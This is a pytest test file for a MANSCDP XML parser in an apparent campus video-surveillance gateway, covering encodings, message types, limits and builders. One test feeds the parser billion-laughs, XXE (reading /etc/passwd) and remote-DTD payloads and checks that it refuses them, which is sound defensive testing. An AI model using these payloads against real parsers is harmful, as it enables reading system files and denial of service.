"""MANSCDP+xml bodies: encodings, message types, limits and builders, on bytes alone."""

from __future__ import annotations

import pytest

from campus_safety.gateway.gb28181 import manscdp
from campus_safety.gateway.gb28181.manscdp import ManscdpError

NVR = "37140200001180000001"
CATALOG = """<?xml version="1.0" encoding="GB2312"?>
<Response>
<CmdType>Catalog</CmdType>
<SN>17430</SN>
<DeviceID>37140200001180000001</DeviceID>
<SumNum>4</SumNum>
<DeviceList Num="3">
<Item>
<DeviceID>37140200001310000001</DeviceID>
<Name>校门口枪机</Name>
<Manufacturer>Hikvision</Manufacturer>
<Model>DS-2CD3T46</Model>
<Owner>Owner</Owner>
<CivilCode>371402</CivilCode>
<Address>德州市第一中学南门</Address>
<Parental>0</Parental>
<ParentID>37140200001180000001</ParentID>
<SafetyWay>0</SafetyWay>
<RegisterWay>1</RegisterWay>
<Secrecy>0</Secrecy>
<Status>ON</Status>
<Longitude>116.357465</Longitude>
<Latitude>37.434092</Latitude>
<Password>should-not-be-kept</Password>
</Item>
<Item>
<DeviceID>37140200001310000002</DeviceID>
<Name>操场</Name>
<Parental>1</Parental>
<Status>OFF</Status>
<Longitude>999</Longitude>
<Latitude>not a number</Latitude>
</Item>
<Item><Name>no id</Name></Item>
</DeviceList>
</Response>
"""


def test_a_keepalive_is_read():
    body = manscdp.parse(
        b'<?xml version="1.0"?>\n<Notify><CmdType>Keepalive</CmdType>'
        b"<SN>43</SN><DeviceID>37140200001180000001</DeviceID>"
        b"<Status>OK</Status></Notify>"
    )
    assert isinstance(body, manscdp.Keepalive)
    assert (body.root, body.cmd_type, body.sn, body.device_id, body.status) == (
        "Notify",
        "Keepalive",
        43,
        NVR,
        "OK",
    )


def test_a_gb2312_encoded_catalog_part_is_decoded_and_its_items_read():
    body = manscdp.parse(CATALOG.encode("gb2312"))
    assert isinstance(body, manscdp.CatalogResponse)
    assert (body.sn, body.sum_num, body.invalid_items) == (17430, 4, 1)
    first, second = body.items
    assert (first.name, first.address, first.civil_code) == (
        "校门口枪机",
        "德州市第一中学南门",
        "371402",
    )
    assert (first.parental, first.parent_id, first.status) == (False, NVR, "ON")
    assert (first.longitude, first.latitude) == (116.357465, 37.434092)
    assert first.extra == {"SafetyWay": "0", "RegisterWay": "1", "Secrecy": "0"}
    assert "Password" not in first.extra  # a device secret is never kept
    assert (second.parental, second.longitude, second.latitude) == (True, None, None)


def test_gbk_characters_in_a_gb2312_declared_body_are_decoded():
    name = "张喆的学校"  # 喆 is in GBK but not in GB2312
    with pytest.raises(UnicodeEncodeError):
        name.encode("gb2312")
    body = manscdp.parse(CATALOG.replace("校门口枪机", name).encode("gbk"))
    assert body.items[0].name == name


def test_a_utf8_body_labelled_gb2312_is_read_as_utf8():
    assert manscdp.parse(CATALOG.encode("utf-8")).items[0].name == "校门口枪机"


def test_a_body_without_declaration_falls_back_to_gb18030():
    text = CATALOG.replace('<?xml version="1.0" encoding="GB2312"?>\n', "")
    assert manscdp.parse(text.encode("gb18030")).items[1].name == "操场"


def test_a_utf8_bom_and_utf16_bodies_are_decoded():
    assert manscdp.parse(b"\xef\xbb\xbf" + CATALOG.encode("utf-8")).items[1].name == "操场"
    utf16 = CATALOG.replace('encoding="GB2312"', 'encoding="UTF-16"').encode("utf-16")
    assert manscdp.parse(utf16).items[1].name == "操场"


def test_an_alarm_notify_is_read_with_its_time_place_and_type():
    body = manscdp.parse(
        """<?xml version="1.0" encoding="GB2312"?>
<Notify><CmdType>Alarm</CmdType><SN>7</SN><DeviceID>37140200001340000001</DeviceID>
<AlarmPriority>1</AlarmPriority><AlarmMethod>2</AlarmMethod>
<AlarmTime>2024-03-01T08:15:30</AlarmTime><AlarmDescription>一键报警</AlarmDescription>
<Longitude>116.35</Longitude><Latitude>37.43</Latitude>
<Info><AlarmType>1</AlarmType></Info></Notify>""".encode("gb2312")
    )
    assert isinstance(body, manscdp.AlarmNotify)
    assert (body.priority, body.method, body.alarm_type) == (1, 2, "1")
    assert body.alarm_time == "2024-03-01T08:15:30"
    assert body.occurred_at.isoformat() == "2024-03-01T08:15:30"
    assert (body.description, body.longitude, body.latitude) == ("一键报警", 116.35, 37.43)


def test_an_alarm_with_unreadable_optional_fields_is_still_an_alarm():
    body = manscdp.parse(
        b"<Notify><CmdType>Alarm</CmdType><SN>8</SN>"
        b"<DeviceID>37140200001340000001</DeviceID>"
        b"<AlarmPriority>urgent</AlarmPriority><AlarmMethod>9</AlarmMethod>"
        b"<AlarmTime>yesterday</AlarmTime><Longitude>inf</Longitude></Notify>"
    )
    assert isinstance(body, manscdp.AlarmNotify)
    assert (body.priority, body.method, body.occurred_at, body.longitude) == (
        None,
        None,
        None,
        None,
    )
    assert body.alarm_time == "yesterday"


def test_device_status_and_device_info_responses_are_read():
    status = manscdp.parse(
        b"<Response><CmdType>DeviceStatus</CmdType><SN>2</SN>"
        b"<DeviceID>37140200001180000001</DeviceID><Result>OK</Result>"
        b"<Online>ONLINE</Online><Status>OK</Status><Encode>ON</Encode>"
        b"<Record>OFF</Record><DeviceTime>2024-03-01T08:00:00</DeviceTime>"
        b'<Alarmstatus Num="1"><Item><DeviceID>37140200001340000001'
        b"</DeviceID><DutyStatus>ONDUTY</DutyStatus></Item></Alarmstatus>"
        b"</Response>"
    )
    assert isinstance(status, manscdp.DeviceStatusResponse)
    assert (status.online, status.encode, status.record) == ("ONLINE", "ON", "OFF")
    assert status.alarm_status == (
        manscdp.DutyStatus(device_id="37140200001340000001", duty_status="ONDUTY"),
    )
    info = manscdp.parse(
        b"<Response><CmdType>DeviceInfo</CmdType><SN>3</SN>"
        b"<DeviceID>37140200001180000001</DeviceID><Result>OK</Result>"
        b"<DeviceName>NVR</DeviceName><Manufacturer>Dahua</Manufacturer>"
        b"<Model>NVR4216</Model><Firmware>V4.0</Firmware><Channel>16</Channel>"
        b"</Response>"
    )
    assert isinstance(info, manscdp.DeviceInfoResponse)
    assert (info.device_name, info.manufacturer, info.firmware, info.channel) == (
        "NVR",
        "Dahua",
        "V4.0",
        16,
    )


def test_other_commands_parse_as_plain_messages_and_namespaces_are_ignored():
    body = manscdp.parse(
        b'<Notify xmlns="urn:x"><CmdType>MediaStatus</CmdType><SN>1</SN>'
        b"<DeviceID>37140200001310000001</DeviceID><NotifyType>121</NotifyType>"
        b"</Notify>"
    )
    assert type(body) is manscdp.Message
    assert body.fields["NotifyType"] == "121"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"", "empty body"),
        (b"<Notify><CmdType>Keepalive</CmdType>", "malformed XML"),
        (b"<Alarm><CmdType>Alarm</CmdType><SN>1</SN><DeviceID>1</DeviceID></Alarm>", "root"),
        (b"<Notify><SN>1</SN><DeviceID>1</DeviceID></Notify>", "CmdType"),
        (b"<Notify><CmdType>Keepalive</CmdType><SN>x</SN><DeviceID>1</DeviceID></Notify>", "SN"),
        (
            b"<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>a b</DeviceID></Notify>",
            "DeviceID",
        ),
        (
            b"<Response><CmdType>Catalog</CmdType><SN>1</SN><DeviceID>1</DeviceID></Response>",
            "SumNum",
        ),
        (b"<Notify>" * 20 + b"</Notify>" * 20, "nested too deeply"),
        (b"<Notify>" + b"<a/>" * 12_000 + b"</Notify>", "too many"),
        (b"<x>" + b"a" * 70_000 + b"</x>", "too large"),
    ],
)
def test_unreadable_bodies_raise_manscdp_error_saying_why(body, message):
    with pytest.raises(ManscdpError, match=message):
        manscdp.parse(body)


@pytest.mark.parametrize(
    "attack",
    [
        # billion laughs: entity expansion
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b"<Notify><CmdType>&b;</CmdType><SN>1</SN><DeviceID>1</DeviceID></Notify>",
        # XXE: an external entity reading a local file
        b'<?xml version="1.0"?><!DOCTYPE n [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&x;</DeviceID></Notify>",
        b'<!DOCTYPE Notify SYSTEM "http://203.0.113.1/evil.dtd"><Notify/>',
    ],
)
def test_dtds_and_entities_are_refused(attack):
    with pytest.raises(ManscdpError):
        manscdp.parse(attack)


def test_a_query_is_built_as_devices_expect_it():
    assert manscdp.build_query("Catalog", 5, NVR) == (
        b'<?xml version="1.0" encoding="GB2312"?>\r\n<Query>\r\n<CmdType>Catalog</CmdType>\r\n'
        b"<SN>5</SN>\r\n<DeviceID>37140200001180000001</DeviceID>\r\n</Query>\r\n"
    )


def test_the_alarm_response_says_result_ok_for_the_alarm_sn():
    body = manscdp.parse(manscdp.build_alarm_response(77, "37140200001340000001"))
    assert (body.root, body.cmd_type, body.sn, body.fields["Result"]) == (
        "Response",
        "Alarm",
        77,
        "OK",
    )


def test_built_catalog_parts_round_trip_and_escape_markup():
    data = manscdp.build_catalog_response(
        9, NVR, 1, [{"DeviceID": "37140200001310000001", "Name": "东门 <A&B>", "Parental": "0"}]
    )
    assert b'Num="1"' in data
    assert manscdp.parse(data).items[0].name == "东门 <A&B>"


def test_gb2312_bytes_that_happen_to_be_valid_utf8_follow_the_declaration():
    # 露 in GB2312 is C2 B6, which is also valid UTF-8 for ¶ (found by hypothesis).
    body = (
        '<?xml version="1.0" encoding="GB2312"?><Response><CmdType>Catalog</CmdType>'
        "<SN>1</SN><DeviceID>34020000001320000001</DeviceID><SumNum>1</SumNum>"
        '<DeviceList Num="1"><Item><DeviceID>34020000001320000002</DeviceID>'
        "<Name>露</Name></Item></DeviceList></Response>"
    ).encode("gb2312")
    assert "露" in manscdp.decode_body(body)
